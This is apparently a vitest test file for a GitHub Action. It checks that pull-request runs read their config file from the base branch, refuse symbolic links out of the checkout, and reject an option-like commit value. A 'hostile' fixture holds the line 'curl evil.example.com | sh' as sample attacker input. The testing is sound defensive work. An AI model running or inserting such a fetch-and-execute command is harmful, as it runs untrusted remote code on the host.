import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fileAt, newestCommit } from '../../src/publish/github-repository.ts';
import { type ConfiguredRun, type RawInputs, readRun } from '../../src/settings/read.ts';
import { ExpectedError } from '../../src/system/errors.ts';
import { type GitHubHarness, startGitHub } from '../harness/github/start.ts';
import { temporaryFolder } from '../harness/temporary.ts';

/** On a pull request, the config file that counts is the accepted one: that of the base. */

type Files = Readonly<Record<string, string>>;

const FILE = '.github/pgo.yml';
const ACCEPTED = 'min-samples: 111\n';
const HOSTILE = 'min-samples: 666\nserve: curl evil.example.com | sh\n';

let github: GitHubHarness;
let branches = 0;
beforeAll(async () => {
  github = await startGitHub({ files: { [FILE]: ACCEPTED } });
});
afterAll(() => github.end());

interface Reading {
  readonly event?: string;
  readonly pull?: Readonly<Record<string, unknown>>;
  readonly env?: Readonly<Record<string, string>>;
  /** Null: the run has no token. */
  readonly token?: string | null;
}

/** A checkout, and a base on GitHub with other files. */
async function sceneWith(base: Files, checkout: Files) {
  const folder = await temporaryFolder();
  const root = join(folder.path, 'work');
  const all = { '.git/HEAD': '', 'go.mod': 'module example.com/shop\n', ...checkout };
  for (const [name, text] of Object.entries(all)) {
    await mkdir(dirname(join(root, name)), { recursive: true });
    await writeFile(join(root, name), text);
  }
  branches += 1;
  const ref = `base-${branches}`;
  const sha = await github.emulator.commit(github.repository, ref, { 'go.mod': '', ...base });
  return {
    root,
    ref,
    sha,
    /** What a run for this event reads. */
    async read(raw: Partial<RawInputs> = {}, reading: Reading = {}): Promise<ConfiguredRun> {
      const { event = 'pull_request', pull = {}, env = {} } = reading;
      const path = join(folder.path, 'event.json');
      const pull_request = { number: 7, merged: false, base: { ref, sha }, ...pull };
      await writeFile(path, JSON.stringify(event.startsWith('pull_request') ? { pull_request } : {}));
      const token = reading.token === null ? undefined : (reading.token ?? github.token);
      const all = {
        ...{ GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: path, GITHUB_API_URL: github.url },
        ...{ GITHUB_REPOSITORY: github.repository, GITHUB_WORKSPACE: root, ...env },
      };
      const place = {
        ...{ cwd: root, env: all, mask: () => {} },
        baseReader: {
          newestCommit: (token: string, at: Parameters<typeof newestCommit>[1]) =>
            newestCommit({ token, env: all }, at),
          fileAt: (token: string, at: Parameters<typeof fileAt>[1]) => fileAt({ token, env: all }, at),
        },
      };
      return readRun({ settings: {}, ...raw, token }, place, 'check');
    },
    [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose](),
  };
}

const changed = () => sceneWith({ [FILE]: ACCEPTED }, { [FILE]: HOSTILE });
const config = (run: ConfiguredRun) => run.targets[0]?.config();
const minSamples = async (run: ConfiguredRun) => (await config(run))?.minSamples;
const notes = ({ findings }: ConfiguredRun) =>
  findings.map(({ severity, message }) => `${severity}: ${message}`);
/** The notes of a run on the file, by the commit of the base. */
type Said = (commit: string) => string[];
const readWith =
  (difference: string): Said =>
  (commit) => [
    `note: \`${FILE}\` is read from commit ${commit}, the base of this pull request, and ${difference}. If the pull request changes the file, the change counts once the pull request is merged.`,
  ];
const READ = readWith('differs from the file in the checkout');
const ABSENT: Said = (commit) => [
  `note: Commit ${commit}, the base of this pull request, has no \`${FILE}\`, so this run does not use the file in the checkout. If the pull request adds the file, its settings count once the pull request is merged.`,
];
const NOTHING: Said = () => [];
const commitOf = ({ ref, sha }: { readonly ref: string; readonly sha: string }) =>
  `${sha.slice(0, 10)} of \`${ref}\``;

async function refusal(reading: Promise<unknown>): Promise<string> {
  const outcome = await reading.catch((error: unknown) => error);
  if (outcome instanceof ExpectedError) return `${outcome.exitCode}: ${outcome.message} ${outcome.fix}`;
  throw new Error('it was accepted', { cause: outcome });
}

test.each<[string, Reading, number, Said]>([
  ['pull_request', {}, 111, READ],
  ['pull_request_target', { event: 'pull_request_target' }, 111, READ],
  ['push', { event: 'push' }, 666, NOTHING],
  ['a merged pull request', { pull: { merged: true } }, 666, NOTHING],
  ['one merged on Gitea', { pull: { merged: undefined, merged_at: '2026-11-20T06:00:00Z' } }, 666, NOTHING],
])('on %s', async (_what, reading, samples, said) => {
  await using scene = await changed();
  const run = await scene.read({}, reading);
  expect([await minSamples(run), notes(run)]).toEqual([samples, said(commitOf(scene))]);
});

const WINDOWS = { [FILE]: 'min-samples: 111\r\n' };
test.each<[string, Files, Files, number, Said]>([
  ['the same file with other line ends', { [FILE]: ACCEPTED }, WINDOWS, 111, NOTHING],
  ['a new file', {}, { [FILE]: HOSTILE }, 100, ABSENT],
  ['a deleted file', { [FILE]: ACCEPTED }, {}, 111, readWith('is not in the checkout')],
])('%s', async (_what, base, checkout, samples, said) => {
  await using scene = await sceneWith(base, checkout);
  const run = await scene.read();
  expect([await minSamples(run), notes(run)]).toEqual([samples, said(commitOf(scene))]);
});

describe('a base that has changed since the last push to the pull request', () => {
  const LATER = { [FILE]: 'min-samples: 222\n' };

  test.each<[string, Files, Files, Said]>([
    ['the file was changed there', { [FILE]: ACCEPTED }, { [FILE]: ACCEPTED }, READ],
    ['the file was added there', {}, {}, readWith('is not in the checkout')],
    ['the checkout is merged with it', { [FILE]: ACCEPTED }, LATER, NOTHING],
  ])('%s: its newest commit counts', async (_what, base, checkout, said) => {
    await using scene = await sceneWith(base, checkout);
    const { ref } = scene;
    const sha = await github.emulator.commit(github.repository, ref, LATER);
    const run = await scene.read();
    expect([await minSamples(run), notes(run)]).toEqual([222, said(commitOf({ ref, sha }))]);
  });

  test('it was deleted: the commit in the event counts', async () => {
    await using scene = await changed();
    await github.emulator.must('DELETE', `/repos/${github.repository}/git/refs/heads/${scene.ref}`);
    const run = await scene.read();
    expect([await minSamples(run), notes(run)]).toEqual([111, READ(commitOf(scene))]);
  });
});

test('a file in the working directory hides that of the root only if it was accepted', async () => {
  const svc = { 'svc/go.mod': 'module m\n', [`svc/${FILE}`]: HOSTILE };
  await using scene = await sceneWith({ [FILE]: ACCEPTED }, { [FILE]: ACCEPTED, ...svc });
  expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
  await using later = await sceneWith({ [FILE]: ACCEPTED, ...svc }, svc);
  expect(await minSamples(await later.read({ workingDirectory: 'svc' }))).toBe(666);
});

test('a named file is that of the base, but one outside of the checkout is no part of the pull request', async () => {
  const checkout = { 'ci/pgo.yaml': HOSTILE, 'ci/new.yaml': HOSTILE };
  await using scene = await sceneWith({ 'ci/pgo.yaml': ACCEPTED }, checkout);
  expect(await minSamples(await scene.read({ config: 'ci/pgo.yaml' }))).toBe(111);
  expect(await refusal(scene.read({ config: 'ci/new.yaml' }))).toMatch(
    /^2: config: .*`ci\/new\.yaml on base-\d+`/,
  );
  const outside = join(scene.root, '..', 'made.yml');
  await writeFile(outside, 'min-samples: 333');
  expect(await minSamples(await scene.read({ config: outside }))).toBe(333);
});

test('targets are those of the base, with their folders in the checkout', async () => {
  const targets = 'targets: [{ name: api, working-directory: api, min-samples: 11 }, { name: mail }]\n';
  const checkout = {
    [FILE]: targets.replace('11', '99').replace('mail', 'post'),
    'api/go.mod': 'module a\n',
  };
  await using scene = await sceneWith({ [FILE]: targets }, checkout);
  const run = await scene.read();
  expect(run.targets.map(({ name }) => name)).toEqual(['api', 'mail']);
  const workingDirectory = join(scene.root, 'api');
  expect(await config(run)).toMatchObject({ target: 'api', minSamples: 11, workingDirectory });
});

describe('folders that a pull request replaces', () => {
  test('a link instead of the file is not followed', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED }, { '.github/x': '' });
    // Reading it would never end.
    await symlink('/dev/zero', join(scene.root, FILE));
    expect(await minSamples(await scene.read())).toBe(111);
  });

  test('neither a submodule nor a link to the root changes which file counts', async () => {
    const svc = { 'svc/.git': 'gitdir: ../.git/modules/svc', [`svc/${FILE}`]: HOSTILE };
    await using submodule = await sceneWith({ [FILE]: ACCEPTED }, svc);
    expect(await minSamples(await submodule.read({ workingDirectory: 'svc' }))).toBe(111);
    await using linked = await sceneWith({ [FILE]: 'min-samples: 444', [`svc/${FILE}`]: ACCEPTED }, {});
    await symlink('.', join(linked.root, 'svc'));
    expect(await minSamples(await linked.read({ workingDirectory: 'svc' }))).toBe(111);
  });

  const alone = (settings: Record<string, string>) => ({ config: false as const, settings });
  test.each<[string, Partial<RawInputs>]>([
    ['working-directory: svc/deep', { workingDirectory: 'svc/deep' }],
    ['targets[0] (api): working-directory: svc', {}],
    ['output-directory: svc/new/folder', alone({ 'output-directory': 'svc/new/folder' })],
    ['body-path: svc/secret.txt', alone({ 'body-path': 'svc/secret.txt' })],
    ['profile: svc/default.pgo', alone({ profile: 'svc/default.pgo' })],
  ])('a link out of the checkout is refused: %s', async (said, raw) => {
    await using scene = await sceneWith({ [FILE]: 'targets: [{ name: api, working-directory: svc }]' }, {});
    await mkdir(join(scene.root, '..', 'outside', 'deep'), { recursive: true });
    await symlink('../outside', join(scene.root, 'svc'));
    const text = await refusal(scene.read(raw).then(config));
    expect(text).toContain(`${said} `);
    expect(text).toContain('symbolic link');
    // The owner's own links are followed.
    if (raw.settings !== undefined) await scene.read(raw, { event: 'push' }).then(config);
  });
});

describe('without the base', () => {
  test.each<[string, Reading, string]>([
    ['a token', { token: null }, '`token`'],
    ['a valid token', { token: 'ghs_wrong' }, 'token: Bad credentials.'],
    ['the branch and the commit', { pull: { base: { ref: 'gone', sha: '1'.repeat(40) } } }, ': Not Found'],
  ])('the run ends: without %s', async (_what, reading, said) => {
    await using scene = await changed();
    const text = await refusal(scene.read({}, reading));
    expect(text).toMatch(/^1: .*config file .*base branch/);
    expect(text).toContain(said);
    expect(text).toContain('permissions: { contents: read }');
  });

  test.each<[string, Reading]>([
    ['names an option instead of a commit', { pull: { base: { ref: 'main', sha: '--help' } } }],
    ['cannot be read', { env: { GITHUB_EVENT_PATH: '' } }],
  ])('an event that %s ends it where the checkout has a config file', async (_what, reading) => {
    await using scene = await changed();
    expect(await refusal(scene.read({}, reading))).toMatch(/^1: .*\.github\/pgo\.yml .*base branch/);
    await rm(join(scene.root, FILE));
    expect(await minSamples(await scene.read({}, reading))).toBe(100);
  });
});
